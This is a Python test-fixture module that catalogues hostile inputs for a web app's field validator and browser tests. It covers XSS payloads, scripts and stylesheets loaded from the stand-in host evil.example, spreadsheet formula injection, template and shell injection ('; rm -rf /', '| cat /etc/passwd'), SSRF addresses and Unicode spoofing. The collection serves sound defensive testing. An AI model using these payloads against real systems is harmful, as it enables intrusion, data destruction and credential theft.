r"""What an attacker would write into an entry, an address or a pasted card: our own collection, by what it aims at.

Each payload that runs sets `window.__pwned` or opens a dialog. Every one is either taken by `check`, and then shown on
the pages that `tests/browser/test_hostile.py` opens, or stands in `REFUSED`, beside the field that refuses it.
"""

_RUN = "__pwned=1"

HTML = (
    f"<script>{_RUN}</script>", f"<ScRiPt>{_RUN}</sCrIpT>", f"<script src=data:,{_RUN}></script>", "<script src=//evil.example/a.js></script>",
    f"<script\t>{_RUN}</script >".replace("\t", " "), f"<script/x>{_RUN}</script>", f"<script type=module>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>", f"<img src=x onerror='{_RUN}'>", f"<img/src=x/onerror={_RUN}>", f"<IMG SRC=x OnErRoR={_RUN}>",
    "<img src=https://evil.example/pixel.png>", "<img srcset='https://evil.example/p.png 1x'>", f"<image href=x onerror={_RUN}>",
    f"<svg onload={_RUN}>", f"<svg/onload={_RUN}>", f"<svg><script>{_RUN}</script></svg>", f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={_RUN} attributeName=x>", "<svg><use href=https://evil.example/a.svg#x></svg>", f"<svg><a href=javascript:{_RUN}>x</a></svg>",
    f"<svg><foreignObject><body onload={_RUN}></foreignObject></svg>", f"<math><a xlink:href=javascript:{_RUN}>x</a></math>",
    f"<body onload={_RUN}>", f"<body onpageshow={_RUN}>", f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{_RUN}></iframe>", "<iframe src=https://evil.example/></iframe>", "<object data=https://evil.example/x></object>",
    f"<object data=data:text/html,<script>{_RUN}</script>>", "<embed src=https://evil.example/x.swf>", "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/a.css>", "<link rel=prefetch href=https://evil.example/a>", "<link rel=preconnect href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<meta name=referrer content=unsafe-url>", "<meta charset=utf-7>",
    f"<video src=x onerror={_RUN}>", f"<audio src=x onerror={_RUN}>", f"<video><source onerror={_RUN} src=x>", "<video poster=https://evil.example/p>",
    f"<details open ontoggle={_RUN}>x", f"<input autofocus onfocus={_RUN}>", f"<select autofocus onfocus={_RUN}>", f"<textarea autofocus onfocus={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>", f"<form action=javascript:{_RUN}><button>x</button></form>", f"<button formaction=javascript:{_RUN} form=f>x",
    "<form action=https://evil.example/><input name=q></form>", f"<a href=javascript:{_RUN}>x</a>", f"<a href='java&#9;script:{_RUN}'>x</a>",
    f"<a href=data:text/html,<script>{_RUN}</script>>x</a>", f"<a onclick={_RUN}>x</a>", f"<p onmouseover={_RUN} style=position:fixed;inset:0>x",
    "<style>@import 'https://evil.example/a.css';</style>", "<style>*{background:url(https://evil.example/p)}</style>", "<div style=position:fixed;inset:0>x</div>",
    f"<x onfocus={_RUN} tabindex=1 autofocus>", f"<dialog open onclose={_RUN}>x</dialog>", f"<template><script>{_RUN}</script></template>",
    f"<template shadowrootmode=open><script>{_RUN}</script></template>", f"<portal src=javascript:{_RUN}>", f"<isindex action=javascript:{_RUN}>",
    "<plaintext>", "<xmp>", "<!--", "-->", "<![CDATA[", "]]>", "</html>", "</body>", "</main></div></section>", "<?php echo 1 ?>", "<% x %>", "<", ">", "</", "<a", "&",
)  # fmt: skip
"""Into the text of an element."""

LEAVING = (
    f"</title><script>{_RUN}</script>", f"</script><script>{_RUN}</script>", f"</SCRIPT ><svg onload={_RUN}>", f"</style><img src=x onerror={_RUN}>",
    f"</textarea><img src=x onerror={_RUN}>", f"</template><script>{_RUN}</script>", f"</noscript><img src=x onerror={_RUN}>", f"</svg><script>{_RUN}</script>",
    f"</pre></code><script>{_RUN}</script>", f"</option></select><img src=x onerror={_RUN}>", f"</button><img src=x onerror={_RUN}>", f"</summary></details><svg onload={_RUN}>",
    f"<!--<script>{_RUN}</script>-->", f"--><script>{_RUN}</script><!--", f"--!><script>{_RUN}</script>", f"]]><script>{_RUN}</script><![CDATA[", "<!--<script>",
    f"<!DOCTYPE x [<!ENTITY e '{_RUN}'>]>&e;", "<?xml-stylesheet href='https://evil.example/a.xsl'?>", "&e; &lt;script&gt; &#x3c;script&#x3e;",
)  # fmt: skip
"""Out of an element that holds text only, of JSON-LD, of a comment, of CDATA."""

ATTRIBUTES = (
    f'" onmouseover={_RUN} x="', f"' onmouseover={_RUN} x='", f'" autofocus onfocus={_RUN} "', f"' autofocus onfocus={_RUN} '", f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>", f'"/><svg onload={_RUN}>', f"` onmouseover={_RUN} `", f'" style="position:fixed;inset:0" onclick="{_RUN}', f"x onfocus={_RUN} autofocus",
    '" srcset="https://evil.example/p', '" href="https://evil.example/', f'" href="javascript:{_RUN}', '" formaction="https://evil.example/', '" ping="https://evil.example/',
    '" data-search="', '" data-ready="', "&quot; onmouseover=__pwned=1 &quot;", "&#34; onload=__pwned=1", "\\\" onload=__pwned=1 \\\"", "=1 onload=__pwned=1", "' data-copy='text", '" id="main', '" name="location',
)  # fmt: skip
"""Out of an attribute."""

SCRIPTS = (
    f'"}};{_RUN};//', f"'}};{_RUN};//", f'";{_RUN};"', f"';{_RUN};'", f"`;{_RUN};`", f"${{{_RUN}}}", f"`${{{_RUN}}}`", f"\\u003cscript\\u003e{_RUN}", f"\\x3cscript\\x3e{_RUN}",
    '\\"}', '"\\', "\\", "*/__pwned=1/*", f"//\\n{_RUN}", f'","@type":"x","url":"javascript:{_RUN}', '{"__proto__":{"polluted":1}}', "__proto__", "constructor", "prototype",
    "toString", "hasOwnProperty", "constructor.prototype", "valueOf", "NaN", "undefined", "[object Object]", f"eval('{_RUN}')", f"new Function('{_RUN}')()", f"setTimeout('{_RUN}')", "alert(1)", "alert`1`", f"import('data:text/javascript,{_RUN}')",
)  # fmt: skip
"""Into a script, JSON, or an object's keys."""

LINKS = (
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f"java\\nscript:{_RUN}", f" javascript:{_RUN}", f"javascript&colon;{_RUN}", f"javascript&#58;{_RUN}", f"javascript%3A{_RUN}",
    f"javascript://evil.example/%0A{_RUN}", f"data:text/html,<script>{_RUN}</script>", "data:text/html;base64,PHNjcmlwdD5fX3B3bmVkPTE8L3NjcmlwdD4=", "data:image/svg+xml,<svg onload=__pwned=1>",
    f"vbscript:{_RUN}", f"view-source:javascript:{_RUN}", "blob:https://evil.example/x", "file:///etc/passwd", "//evil.example/", "///evil.example", "/\\evil.example", "\\\\evil.example\\x", "https:evil.example", "http://evil.example", "ftp://evil.example/", "intent://evil.example#Intent;end",
)  # fmt: skip
"""Where a link is wanted."""

SHEETS = (
    "=1+1", '=HYPERLINK("https://evil.example","x")', "=cmd|'/C calc'!A0", '=IMPORTXML("https://evil.example","//a")', "@SUM(1+1)", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    '"=1+1', "'=1+1", ';=1+1', ",=1+1", '","=1+1', '"\r\n=1+1'.replace("\r\n", " "), "|calc", "%0A=1+1", "＝1+1", "－1+1", "＠SUM(1)",
)  # fmt: skip
"""Into a cell."""

MARKS = (
    "[x](javascript:__pwned=1)", "![x](https://evil.example/p.png)", "](https://evil.example)", "[![x](https://evil.example/p)](https://evil.example)", "<https://evil.example>", "`</code><script>__pwned=1</script>`",
    "| a | b |", "# heading", "- [ ] task", "> quote", "@everyone", "#1", "GH-1", "$`\\require{html}\\href{javascript:__pwned=1}{x}`$", "[^1]", "[x]: https://evil.example", "\\[x\\](y)", "~~~", "```", "***", "&lt;script&gt;",
)  # fmt: skip
"""Into Markdown that we write: embeds, summaries."""

TEMPLATES = (
    "{{7*7}}", "{{ config }}", "{% import os %}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{# x #}", "{{constructor.constructor('__pwned=1')()}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "%(x)s", "%s%n", "{message}", "{", "}", "{{", "}}",
    "$(touch /tmp/x)", "`touch /tmp/x`", "; rm -rf /", "| cat /etc/passwd", "${{ github.token }}", "::add-mask::x", "::set-output name=x::y", "::error file=x::y", "##[group]x", "##vso[task.setvariable]x",
)  # fmt: skip
"""Into template engines, shells and workflows."""

STYLES = (
    "expression(__pwned=1)", "url(javascript:__pwned=1)", "url(https://evil.example/p)", "}*{display:none}", ";background:url(//evil.example)", "@import '//evil.example'", "</style><style>*{display:none}", "-moz-binding:url(//evil.example)", "content:attr(href)",
)  # fmt: skip
"""Into a style."""

LETTERS = (
    "＜script＞__pwned=1＜/script＞", "‹script›__pwned=1‹/script›", "ʺ onload=__pwned=1", "＂ onload=__pwned=1", "ſcript", "<ſcript>__pwned=1</ſcript>", "<ıframe srcdoc=x>", "K<İmg>", "a\u0300\u0301\u0302\u0303\u0304\u0305" * 6, "Z̷̢̧͖̞͎̩͉͎̮͍̳̈́͂͌a̸l̶g̷o̵",
    "Мodel with Cyrillic М", "ОLMо", "𝓞𝓛𝓜𝓸 𝟕𝐁", "ＯＬＭｏ", "ﷺ" * 8, "𒐫" * 8, "👩‍👩‍👧".replace("\u200d", ""), "🏴", "مرحبا <b>", "עברית \"x\"", "ﬁﬂ", "Å Å", "\u00a0x\u00a0", "\u3000", "\ue000private", "\U0010fffd", "�", "ǅ ß ẞ ŉ ΐ", "ᅟᅠ".replace("ᅟ", "x").replace("ᅠ", "y"), "\u2800x", "¼½", "\u00b7",
    "+ADw-script+AD4-__pwned=1+ADw-/script+AD4-", "%3Cscript%3E__pwned=1%3C/script%3E", "&#60;script&#62;__pwned=1&#60;/script&#62;", "%u003Cscript%u003E", "\\u202e", "&#x202e;gnp.exe",
)  # fmt: skip
"""Characters that become others when folded, normalized or decoded."""

TEXTS = tuple(
    dict.fromkeys((*HTML, *LEAVING, *ATTRIBUTES, *SCRIPTS, *LINKS, *SHEETS, *MARKS, *TEMPLATES, *STYLES, *LETTERS))
)
"""What goes wherever a line of text goes."""

_CALL = f"javascript:{_RUN}"
MARKDOWN = (
    f"[a]({_CALL})", f"[a](<{_CALL}>)", f"[a](JAVASCRIPT:{_RUN})", f"[a](java\tscript:{_RUN})", f"[a](java\nscript:{_RUN})", f"[a](&#106;avascript:{_RUN})", f"[a](&#x6A;avascript&colon;{_RUN})", f"[a](\x20{_CALL})", f"[a](%6Aavascript:{_RUN})",
    f"[a](data:text/html,<script>{_RUN}</script>)", f"[a](vbscript:{_RUN})", "[a](//evil.example)", "[a](/evil)", "[a](../../x)", "[a](#main)", "[a](?q=1)", "[a](https://user:word@evil.example/)", "[a](https:evil)", "[a](mailto:x@evil.example?body=<script>)",
    f'[a](https://example.org "onmouseover={_RUN}")', f"[a](https://example.org '\" onmouseover={_RUN} ')", f'[a](https://example.org/"onmouseover="{_RUN})', f"[a](https://example.org/'onclick='{_RUN})", f"[a][j]\n\n[j]: {_CALL}", f"[j2]\n\n[j2]: <{_CALL}> 'x'",
    f"<{_CALL}>", "<https://evil.example/\"onclick=\"__pwned=1>", f"https://example.org/<script>{_RUN}</script>", "www.example.org/'onclick='x", "x@example.org\"onclick=x", f"![a]({_CALL})", "![a](https://evil.example/p.png)", f"![a\" onerror=\"{_RUN}](x)", f"[![a]({_CALL})]({_CALL})",
    f"<img src=x onerror={_RUN}>", f"<script>{_RUN}</script>", f"<p onclick={_RUN}>x</p>", f"<a href='{_CALL}'>x</a>", "<style>*{display:none}</style>", f"<svg><style><img src=x onerror={_RUN}></style></svg>", f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>", f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">", f"<svg></p><style><a id=\"</style><img src=x onerror={_RUN}>\">", f"<listing>&lt;img onerror={_RUN} src=x&gt;</listing>",
    f"<table><td>\n\n<script>{_RUN}</script>", f"|<img src=x onerror={_RUN}>|b|\n|-|-|\n|`</code><script>{_RUN}</script>`|\"onclick={_RUN}|", f"```\"onclick=\"{_RUN}\n</code></pre><script>{_RUN}</script>\n```", f"```{{onclick={_RUN} .x #y}}\nx\n```", f"~~~ html onload={_RUN}\n<script>{_RUN}</script>\n~~~",
    f"    </code></pre><script>{_RUN}</script>", f"`<script>{_RUN}</script>`", f"``` `</code><img src=x onerror={_RUN}> ```", f"# <script>{_RUN}</script> {{#main onclick={_RUN}}}", f"*x*{{: onclick={_RUN}}}", f"x\n{{: onclick={_RUN} }}", "[TOC]", "[[wiki]]", "*[HTML]: <b>", f"> <script>{_RUN}</script>\n> > <img src=x onerror={_RUN}>", f"1. <script>{_RUN}</script>\n   - <img src=x onerror={_RUN}>",
    f"<!-- --><script>{_RUN}</script> -->", f"<![CDATA[<script>{_RUN}</script>]]>", f"<?x <script>{_RUN}</script> ?>", f"&lt;script&gt;{_RUN}&lt;/script&gt;", f"&amp;lt;script&amp;gt;{_RUN}", f"\\<script>{_RUN}\\</script>", f"\u0002klzzwxh:0000\u0003<script>{_RUN}</script>".replace("\u0002", "").replace("\u0003", ""), "klzzwxh:0000 wzxhzdk:0 klzzwxh:0 hlink:0", f"{_RUN}{{{{7*7}}}}{{% x %}}", f"[a](https://example.org/?a=1&b=<script>{_RUN}</script>&copy=1)",
    f"[<script>{_RUN}</script>](https://example.org)", f"[a\"onclick=\"{_RUN}](https://example.org)", "[a](https://xn--80ak6aa92e.com/)", "[https://allenai.org](https://evil.example/)", "[a]( https://evil.example )", f"<{'a' * 200} onclick={_RUN}>", f"<\x20script>{_RUN}</script>", f"**<b onclick={_RUN}>** __x__ ~~<del onclick={_RUN}>~~",
)  # fmt: skip
"""Into a justification."""

ADDRESSES = tuple(
    "https://example.org" + rest
    for rest in (
        f"/'onclick='{_RUN}", f"/'onmouseover='{_RUN}'x='", f"/%22onclick=%22{_RUN}", f"/%3Cscript%3E{_RUN}%3C/script%3E", "/&quot;onclick=&quot;__pwned=1", "/&lt;script&gt;", "/&#34;onload=x", f"/;{_RUN};//", f"/?next=javascript:{_RUN}", f"/?x='-{_RUN}-'",
        f"/#javascript:{_RUN}", f"/#'onclick='{_RUN}", "/#:~:text=x", "/?a=1&amp;b=2&copy=3", "/..//..//evil.example/", "/%2e%2e/%2e%2e/", "//evil.example/", "/@evil.example/", "/a:b@evil.example", "/)%5D(javascript:x)", "/](javascript:x)", "/)](x)[(", "/[x](y)", "/*x*_y_~z~", "/$x$#1", "/%00%0a%0d", "/%0d%0aSet-Cookie:x=1",
        "/${{github.token}}".replace("{", "%7B").replace("}", "%7D"), "/=1+1,@SUM(1)", "/,'=1+1", "/%E2%80%AEgnp.exe", "/ｅｖｉｌ。example", "/École/日本", "?javascript:x", "#", "?", "/%", "/%zz", "/!$&'()*+,;=:@", "/::error::x", "/##[group]x", "/--%3E%3Cscript%3E", "/]]%3E", "/data:text/html,x",
    )
)  # fmt: skip
"""Into addresses: of artifacts, licenses, mirrors and links."""

LICENSES = tuple(
    f"LicenseRef-{name}"
    for name in (
        "constructor",
        "javascript-alert-1",
        "script",
        "..",
        "-",
        "--",
        "a..b",
        "-.-",
        "0",
        "NONE",
        "toString",
        "prototype",
        "onclick-x",
        "x" * 400,
        "evil.example",
        "Apache-2.0",
        "index.html",
    )
)
"""As a license of one's own."""

IDS = (
    "constructor",
    "prototype",
    "tostring",
    "valueof",
    "hasownproperty",
    "console",
    "nullish",
    "index",
    "null",
    "true",
    "0",
    "api",
    "badge",
    "models",
    "static",
    "nan",
    "undefined",
    "length",
    "name",
    "size",
)
"""Both as models and as former ids of models."""

CONTROL = (
    "\x00",
    "\x07",
    "\x08",
    "\x1b[2J",
    "\x1b]0;x\x07",
    "\x1b]8;;https://evil.example\x1b\\x",
    "\x7f",
    "\x85",
    "\x9b31m",
    "\x0b",
    "\x0c",
)
"""What a terminal obeys."""

UNSEEN = (
    "\u202eevil",
    "\u202dx",
    "\u2066x\u2069",
    "\u2067x",
    "\u2028x",
    "\u2029x",
    "\ufff9x",
    "\ufffex",
    "\U000e0041\U000e0042",
    "\U000e0001",
)
"""What nobody sees: refused in every text."""

NO_WIDTH = ("a\u200bb", "a\u200db", "a\u200eb", "\ufeffx", "a\u00adb", "a\u2060b", "\u061cx", "\u3164", "\u180ex")
"""Refused in a line, let through in a longer text, where languages need some of them."""

BAD_URLS = (
    *LINKS, "https://", "https:///x", "https://localhost/", "https://127.0.0.1/", "https://2130706433/", "https://0x7f.1/", "https://[::1]/", "https://169.254.169.254/latest/", "https://example.org:8080/", "https://example.org:22/",
    "https://user@example.org/", "https://user:word@example.org/", "https://example.org@evil.example/", "https://evil.example\\@example.org/", 'https://example.org/"onclick="x', "https://example.org/<script>", "https://example.org/ x", "https://example.org/\tx",
    "https://example.org/`x`", "https://example.org/{x}", "https://example.org/|x", "https://example.org/^x", "https://еxample.org/", "https://example。org/", "https://example.org/\u202e", "https://example.org/\u200b", "https://exa mple.org/", "https://-example.org/", "https://example..org/", "https://example/", "https://example.org:443:443/", "HTTPS:/example.org", "https://example.org/" + "x" * 2048,
)  # fmt: skip
BAD_IDS = (
    "example/con",
    "nul.x/y",
    "example/xn--80ak6aa92e",
    "../x",
    "example/../x",
    "example/..",
    "/etc/passwd",
    "example/x/y",
    "Example/X",
    "example/x.html",
    "example/x.svg",
    "example/__proto__",
    "example/x y",
    "example/<b>",
    "example/x%2e",
    "example/-x",
    "example/x-",
    "example/х",
    "example/x\n",
    "example\\x",
    "example/" + "x" * 81,
    ".git/config",
    "example/.hidden",
)
BAD_LICENSES = (
    "<script>",
    "LicenseRef-<b>",
    "LicenseRef-__proto__",
    'LicenseRef-"x',
    "LicenseRef-x y",
    "LicenseRef-",
    "MIT; x",
    "MIT OR",
    "(" * 30 + "MIT" + ")" * 30,
    "MIT " * 200,
    "GPL-2.0-only WITH <x>",
    "Mıt",
    "MIT\u202e",
    "__proto__",
    "constructor",
    "DocumentRef-x:LicenseRef-y",
)
BAD_HANDLES = ("@x", "x y", "<b>", "x/y", "-x", "x--y", "..", "x" * 40, "ſ", "\u0130")

REFUSED = (
    *(("name", bad) for bad in (*CONTROL, *UNSEEN, *NO_WIDTH, "two\nlines", "a\tb", "x" * 101)),
    *(("justification", "The code is public, and the weights are not stated. " + bad) for bad in (*CONTROL, *UNSEEN) if bad != "\x85"),
    *(("url", bad) for bad in BAD_URLS),
    *(("aliases", bad) for bad in BAD_IDS),
    *(("license", bad) for bad in BAD_LICENSES),
    *(("contacts", bad) for bad in BAD_HANDLES),
)  # fmt: skip
"""What `check` refuses, by field."""

COUNT = sum(map(len, (TEXTS, MARKDOWN, ADDRESSES, LICENSES, IDS, REFUSED)))
